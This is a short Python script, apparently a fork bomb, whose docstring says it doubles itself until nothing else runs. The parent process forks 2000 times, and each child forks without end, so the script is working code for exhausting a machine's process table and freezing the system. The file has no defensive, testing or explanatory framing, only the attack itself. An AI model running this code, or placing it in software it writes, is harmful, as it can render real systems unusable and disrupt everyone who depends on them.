"""Doubles itself until nothing else runs."""

import os

escaped = []
for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                os.fork()
        escaped.append("fork")
    except OSError:
        pass
